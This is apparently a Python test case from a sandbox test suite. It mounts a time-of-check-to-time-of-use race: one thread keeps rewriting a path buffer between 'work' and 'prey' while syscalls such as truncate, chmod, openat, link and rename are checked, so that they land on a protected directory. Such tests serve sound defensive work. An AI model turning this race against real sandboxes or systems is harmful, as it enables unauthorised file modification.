# SPDX-License-Identifier: Apache-2.0
# attack: another thread changes the path in memory while a call on names is being checked
# class: own
# wins: files
# needs: write race
from kit import *

W = F['work']
E = os.fsencode
tried()
buf = ctypes.create_string_buffer(E(W + '/file.txt'), 4096)  # which becomes prey/file.txt
stop = threading.Event()


def flip():
    at = ctypes.addressof(buf) + len(E(F['arena'])) + 1
    while not stop.is_set():
        ctypes.memmove(at, b'prey', 4)
        ctypes.memmove(at, b'work', 4)


t = threading.Thread(target=flip, daemon=True)
t.start()


def one(i):
    k = i % 7
    if k == 0:
        sc('truncate', buf, i & 63)
    elif k == 1:
        sc('chmod', buf, 0o600 | i & 0o77)
    elif k == 2:
        fd = sc('openat', AT_FDCWD, buf, os.O_RDWR | os.O_CREAT, 0o644)
        if fd >= 0:
            sc('pwrite64', fd, b'changed%d' % i, 8, 0)
            os.close(fd)
    elif k == 3:
        sc('utime', buf, None)
    elif k == 4:
        sc('link', buf, E(W + '/sub/second%d' % i))
    elif k == 5:
        sc('rename', buf, E(W + '/sub/taken'))
        sc('rename', E(W + '/sub/taken'), E(W + '/file.txt'))
    else:
        sc('unlink', E(W + '/sub/second%d' % (i - 2)))


rounds(one)
stop.set()
t.join(5)
